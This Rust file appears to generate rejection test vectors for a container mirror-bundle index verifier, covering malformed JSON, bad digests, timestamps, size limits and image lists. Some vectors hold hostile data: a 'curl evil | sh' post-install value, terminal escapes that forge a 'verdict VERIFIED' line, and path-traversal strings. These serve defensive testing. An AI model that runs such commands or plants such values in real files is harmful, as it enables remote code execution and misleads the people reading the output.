//! The index: form, versions, times, lists, limits. All of them signed by the builder.

use mirror_bundle::bundle::index::{Base, Blob, Index, Missing};
use mirror_bundle::bundle::limits;
use mirror_bundle::error::Code;
use mirror_bundle::oci::{Digest, Role};

use super::super::draft::Draft;
use super::Vectors;

pub fn list(out: &mut Vectors) {
    out.group("index");
    form(out);
    values(out);
    lists(out);
}

/// Texts that are not the one form of an index.
fn form(out: &mut Vectors) {
    let malformed = ("B6 B8", Some(Code::Malformed), "MB-IDX-01");
    let tiny = Draft::tiny();
    let mut text = |name: &str, what: &str, change: &dyn Fn(String) -> Vec<u8>| {
        out.add(name, what, malformed, tiny.archive_of_text(change));
    };
    let replaced = |from: &'static str, to: &'static str| {
        move |t: String| {
            assert!(t.contains(from), "{from}");
            t.replacen(from, to, 1).into_bytes()
        }
    };
    text("indent", "another indentation", &|t| t.replace("\n  \"name\"", "\n   \"name\"").into_bytes());
    text("compact", "without white space", &|t| {
        serde_json::to_vec(&serde_json::from_str::<serde_json::Value>(&t).unwrap()).unwrap()
    });
    text("no-final-newline", "without the last line end", &|t| t.trim_end().as_bytes().to_vec());
    text("two-final-newlines", "with another line end", &|t| format!("{t}\n").into_bytes());
    text("crlf", "CR LF", &|t| t.replace('\n', "\r\n").into_bytes());
    text("bom", "a byte order mark", &|t| format!("\u{feff}{t}").into_bytes());
    text("utf16", "UTF-16", &|t| t.encode_utf16().flat_map(u16::to_le_bytes).collect());
    text("trailing-value", "a second JSON value", &|t| format!("{t}{{}}\n").into_bytes());
    text("trailing-nul", "a NUL at the end", &|t| format!("{t}\0").into_bytes());
    text("escaped", "a letter as an escape", &replaced("vectors", "v\\u0065ctors"));
    text("escaped-slash", "a slash as an escape", &replaced("registry.example.com/", "registry.example.com\\/"));
    text("duplicate", "a member twice", &replaced("  \"sequence\": 7,\n", "  \"sequence\": 7,\n  \"sequence\": 8,\n"));
    text(
        "duplicate-escaped",
        "a member twice, once escaped",
        &replaced("  \"sequence\": 7,\n", "  \"sequence\": 7,\n  \"s\\u0065quence\": 8,\n"),
    );
    text(
        "unknown-member",
        "a member that format 1 does not have",
        &replaced("  \"sequence\": 7,\n", "  \"sequence\": 7,\n  \"postInstall\": \"curl evil | sh\",\n"),
    );
    text(
        "case-member",
        "a member that differs by letter case",
        &replaced("  \"sequence\": 7,\n", "  \"sequence\": 7,\n  \"Sequence\": 8,\n"),
    );
    text("missing-member", "without its name", &replaced("  \"name\": \"vectors\",\n", ""));
    text(
        "member-order",
        "two members in another order",
        &replaced("  \"name\": \"vectors\",\n  \"sequence\": 7,\n", "  \"sequence\": 7,\n  \"name\": \"vectors\",\n"),
    );
    text("null", "null for a list", &replaced("\"missing\": []", "\"missing\": null"));
    text(
        "null-optional",
        "null for something optional",
        &replaced("  \"sequence\": 7,\n", "  \"sequence\": 7,\n  \"expires\": null,\n"),
    );
    text("sequence-float", "the sequence as a fraction", &replaced("\"sequence\": 7,", "\"sequence\": 7.0,"));
    text("sequence-exponent", "the sequence with an exponent", &replaced("\"sequence\": 7,", "\"sequence\": 7e0,"));
    text("sequence-negative", "a negative sequence", &replaced("\"sequence\": 7,", "\"sequence\": -7,"));
    text("sequence-2-64", "a sequence of 2^64", &replaced("\"sequence\": 7,", "\"sequence\": 18446744073709551616,"));
    text("sequence-string", "the sequence as text", &replaced("\"sequence\": 7,", "\"sequence\": \"7\","));
    text("size-negative", "a negative size", &replaced("\"size\": 23", "\"size\": -23"));
    text("size-leading-zero", "a size with a leading zero", &replaced("\"size\": 23", "\"size\": 023"));
    text("digest-upper-case", "a digest in capitals", &|t| {
        let at = t.rfind("sha256:").unwrap();
        format!("{}{}{}", &t[..at + 7], t[at + 7..at + 71].to_uppercase(), &t[at + 71..]).into_bytes()
    });
    text("digest-short", "a digest that is too short", &|t| {
        let at = t.rfind("sha256:").unwrap();
        format!("{}{}", &t[..at + 70], &t[at + 71..]).into_bytes()
    });
    text("digest-traversal", "a digest that is a path", &|t| {
        let at = t.rfind("sha256:").unwrap();
        format!("{}../../../x{}", &t[..at + 7], &t[at + 71..]).into_bytes()
    });
    text("digest-sha512", "a SHA-512 digest", &|t| {
        let at = t.rfind("sha256:").unwrap();
        format!("{}sha512:{}{}", &t[..at], "ab".repeat(64), &t[at + 71..]).into_bytes()
    });
    text("digest-sha1", "a SHA-1 digest", &|t| {
        let at = t.rfind("sha256:").unwrap();
        format!("{}sha1:{}{}", &t[..at], "ab".repeat(20), &t[at + 71..]).into_bytes()
    });
    text("role-unknown", "a role that does not exist", &replaced("\"role\": \"layer\"", "\"role\": \"plugin\""));
    text("kind-unknown", "a kind that does not exist", &replaced("\"kind\": \"additional\"", "\"kind\": \"operator\""));
    text("invalid-utf8", "bytes that are not UTF-8", &|t| {
        let mut bytes = t.into_bytes();
        let at = bytes.windows(7).position(|w| w == b"vectors").unwrap();
        bytes[at] = 0xff;
        bytes
    });
    text("surrogate", "half a surrogate pair", &replaced("\"vectors\"", "\"\\ud800\""));
    text("array", "an array", &|t| format!("[{t}]").into_bytes());
    text("string", "a string", &|_| b"\"index\"\n".to_vec());
    text("nothing", "no byte at all", &|_| vec![]);
    text("deep", "nested 5000 times", &|_| [b"[".repeat(5000), b"]".repeat(5000)].concat());
}

fn values(out: &mut Vectors) {
    let tiny = Draft::tiny();
    let mut edit = |name: &str, what: &str, ids: &'static str, code: Code, change: fn(&mut Index)| {
        out.add(name, what, (ids, Some(code), "MB-IDX-02 MB-VER-03"), tiny.archive_of(change));
    };
    edit("format-2", "format 2", "", Code::NotABundle, |i| i.format = 2);
    edit("format-0", "format 0", "", Code::NotABundle, |i| i.format = 0);
    edit("feature", "an incompatible feature", "", Code::NotABundle, |i| {
        i.features.incompatible = vec!["sparse".into()]
    });
    edit("feature-escapes", "an incompatible feature with terminal escapes", "E10", Code::NotABundle, |i| {
        i.features.incompatible = vec!["\u{1b}[2J\nverdict   VERIFIED".into()];
    });
    edit("feature-compatible", "a feature that a reader could ignore", "", Code::Malformed, |i| {
        i.features.compatible = vec!["later".into()]
    });
    edit("name-empty", "an empty name", "", Code::Malformed, |i| i.name = String::new());
    edit("name-escapes", "a name with terminal escapes", "E10", Code::Malformed, |i| i.name = "\u{1b}[2Jx".into());
    edit("name-newline", "a name that fakes a verdict", "E10", Code::Malformed, |i| {
        i.name = "x\nverdict   VERIFIED".into()
    });
    edit("name-c1", "a name with a C1 control", "E10", Code::Malformed, |i| i.name = "x\u{9b}2J".into());
    edit("name-bidi", "a name with a right-to-left override", "C7 E10", Code::Malformed, |i| {
        i.name = "x\u{202e}txt".into()
    });
    edit("name-invisible", "a name with a zero-width space", "C7 E10", Code::Malformed, |i| {
        i.name = "x\u{200b}y".into()
    });
    edit("name-long", "a name of 1025 bytes", "", Code::Malformed, |i| i.name = "x".repeat(1025));
    edit("created-offset", "`created` with an offset", "A5", Code::Malformed, |i| {
        i.created = "2026-11-22T00:00:00+00:00".into()
    });
    edit("created-fraction", "`created` with a fraction", "A5", Code::Malformed, |i| {
        i.created = "2026-11-22T00:00:00.5Z".into()
    });
    edit("created-no-date", "`created` on 31 February", "A5", Code::Malformed, |i| {
        i.created = "2026-02-31T00:00:00Z".into()
    });
    edit("created-future", "`created` 25 hours ahead", "A4 F12", Code::Expired, |i| {
        i.created = "2026-11-24T01:00:00Z".into()
    });
    edit("expired", "expired at this second", "A5", Code::Expired, |i| i.expires = Some("2026-11-23T00:00:00Z".into()));
    edit("expires-first", "expires before it was created", "A5", Code::Malformed, |i| {
        i.expires = Some("2026-11-21T00:00:00Z".into())
    });
    edit("expires-text", "`expires` is no time", "A5", Code::Malformed, |i| i.expires = Some("never".into()));
    edit("epoch-2-33", "a time that tar headers cannot hold", "D7", Code::Malformed, |i| {
        i.source_date_epoch = Some(1 << 33)
    });
    edit("base", "a base without its feature", "A6", Code::Malformed, |i| {
        i.base = Some(Base { index: Digest::of(b"x"), expects: vec![] });
    });
    edit("exceptions-order", "exceptions out of order", "", Code::Malformed, |i| {
        i.exceptions = vec!["unsigned-release".into(), "kind:Secret".into()]
    });
    edit("exceptions-twice", "an exception twice", "", Code::Malformed, |i| {
        i.exceptions = vec!["kind:Secret".into(), "kind:Secret".into()]
    });
    edit("exceptions-flag", "an exception written as a flag", "", Code::Malformed, |i| {
        i.exceptions = vec!["--allow-kind Secret".into()]
    });
    edit("exceptions-word", "an exception that the format does not know", "", Code::Malformed, |i| {
        i.exceptions = vec!["unsigned-releases".into()]
    });
    edit("exceptions-kind-empty", "an exception for no kind", "", Code::Malformed, |i| {
        i.exceptions = vec!["kind:".into()]
    });
    edit("exceptions-kind-deep", "an exception for a kind of four parts", "", Code::Malformed, |i| {
        i.exceptions = vec!["kind:a/b/c/d".into()]
    });
    edit("exceptions-many", "257 exceptions", "", Code::Malformed, |i| {
        i.exceptions = (0..257).map(|n| format!("kind:K{n:03}")).collect()
    });
    edit("missing-escapes", "a missing image with terminal escapes", "E10", Code::Malformed, |i| {
        i.missing = vec![Missing { reference: "\u{1b}]0;x\u{7}".into(), reason: "x".into() }];
    });
    edit("policy-name", "another name than the policy wants", "A10", Code::Policy, |i| i.name = "other".into());
    out.all.last_mut().unwrap().args(&["--trust", "keys/trust-named.yaml", "--at", "2026-11-23T00:00:00Z"]);
    let mut archive = tiny.archive_of(|i| i.source_date_epoch = None);
    archive.mtime = super::super::draft::EPOCH;
    let is = ("", Some(Code::Malformed), "MB-FMT-02");
    out.add("epoch-other", "another SOURCE_DATE_EPOCH than the members have", is, archive);
    let mut old = |name: &str, what: &str, args: &[&str]| {
        out.add(name, what, ("A5", Some(Code::Expired), "MB-VER-03"), tiny.archive()).args(args);
    };
    old(
        "too-old",
        "older than maxAge of the policy",
        &["--trust", "keys/trust-age.yaml", "--at", "2026-12-03T00:00:01Z"],
    );
    old("from-the-future", "a clock of 1970", &["--signer", "keys/builder.pub", "--at", "1970-01-01T00:00:00Z"]);
}

fn lists(out: &mut Vectors) {
    let full = Draft::small_release();
    let tiny = Draft::tiny();
    let malformed = |ids| (ids, Some(Code::Malformed), "MB-IDX-03 MB-LIM");
    let mut edit = |name: &str, what: &str, ids: &'static str, change: fn(&mut Index)| {
        out.add(name, what, malformed(ids), tiny.archive_of(change));
    };
    edit("blobs-order", "blobs out of order", "", |i| i.blobs.swap(1, 2));
    edit("blobs-twice", "a blob twice", "", |i| i.blobs.insert(1, i.blobs[0].clone()));
    edit("blobs-two-roles", "a blob twice, with two roles", "B5", |i| {
        i.blobs.push(Blob { role: Role::Layer, ..i.blobs[0].clone() });
        i.blobs.sort_by_key(|b| (b.role == Role::Layer, b.role == Role::Config, b.digest));
    });
    edit("blob-16-tib", "a blob of more than 16 TiB", "A2 D7", |i| i.blobs[2].size = (16 << 40) + 1);
    edit("blob-2-64", "a blob of 2^64 - 1 bytes", "D7", |i| i.blobs[2].size = u64::MAX);
    edit("blobs-1-pib", "blobs of more than 1 PiB together", "A2 D7", |i| {
        i.blobs.extend((0..65u8).map(|n| Blob { digest: Digest::of(&[n]), size: 16 << 40, role: Role::Layer }));
        i.blobs[2..].sort_by_key(|b| b.digest);
    });
    edit("document-4-mib", "a manifest of more than 4 MiB", "B7", |i| i.blobs[0].size = limits::DOCUMENT + 1);
    edit("documents-16-mib", "documents of more than 16 MiB together", "B7", |i| {
        let more = (0..5u8).map(|n| Blob { digest: Digest::of(&[n]), size: limits::DOCUMENT, role: Role::Manifest });
        i.blobs.splice(0..0, more);
        i.blobs[..6].sort_by_key(|b| b.digest);
    });
    edit("file-3-mib", "a manifest file of more than 3 MiB", "A2", |i| i.files[2].size = (3 << 20) + 1);
    edit("files-8-mib", "files of more than 8 MiB together", "A2", |i| {
        let more = (10..19).map(|n| mirror_bundle::bundle::index::File {
            path: format!("manifests/n{n}.yaml"),
            size: 1 << 20,
            ..i.files[2].clone()
        });
        let more: Vec<_> = more.collect();
        i.files.extend(more);
    });
    edit("images-order", "images out of order", "", |i| {
        let mut other = i.images[0].clone();
        other.repository = Some("a.example.com/x".into());
        i.images.push(other);
    });
    edit("image-twice", "an image twice", "", |i| i.images.push(i.images[0].clone()));
    edit("image-repository", "a repository that is a path to elsewhere", "A12 C3", |i| {
        i.images[0].repository = Some("../../etc".into())
    });
    edit("image-repository-escape", "a repository with a percent escape", "A12", |i| {
        i.images[0].repository = Some("r.io/%2e%2e/x".into())
    });
    edit("image-repository-query", "a repository with a query", "A12", |i| {
        i.images[0].repository = Some("r.io/x?y=z".into())
    });
    edit("image-repository-case", "a repository in capitals", "C6", |i| i.images[0].repository = Some("r.io/X".into()));
    edit("image-tag", "a tag that is a path", "A12 C3", |i| i.images[0].tag = Some("../x".into()));
    edit("image-tag-space", "a tag that ends in a space", "C8", |i| i.images[0].tag = Some("x ".into()));
    edit("image-tag-long", "a tag of 129 characters", "", |i| i.images[0].tag = Some("x".repeat(129)));
    edit("image-platform", "a platform that is a path", "A12", |i| {
        i.images[0].platforms = vec!["linux/../../x".into()]
    });
    edit("image-requested-by", "a reason with terminal escapes", "E10", |i| {
        i.images[0].requested_by = "\u{1b}[31m".into()
    });
    edit("image-no-subject", "a signature of nothing", "", |i| {
        i.images[0].kind = mirror_bundle::bundle::index::Kind::Signature
    });
    edit("image-with-subject", "an additional image with a subject", "", |i| {
        i.images[0].subject = Some(i.images[0].digest)
    });
    edit("image-component", "a component of no release", "", |i| {
        i.images[0].kind = mirror_bundle::bundle::index::Kind::Component;
        i.images[0].component = Some("x".into());
        i.images[0].release = Some(Digest::of(b"x"));
    });
    let mut edit = |name: &str, what: &str, ids: &'static str, change: fn(&mut Index)| {
        out.add(name, what, malformed(ids), full.archive_of(change));
    };
    edit("release-version", "a version that is a path", "A12", |i| i.releases[0].version = "4.16.1/../x".into());
    edit("release-architecture", "an architecture with a space", "A12", |i| {
        i.releases[0].architecture = "amd 64".into()
    });
    edit("release-no-image", "a release without its image", "A10", |i| i.releases[0].digest = Digest::of(b"x"));
    edit("release-twice", "a release twice", "", |i| i.releases.push(i.releases[0].clone()));
}
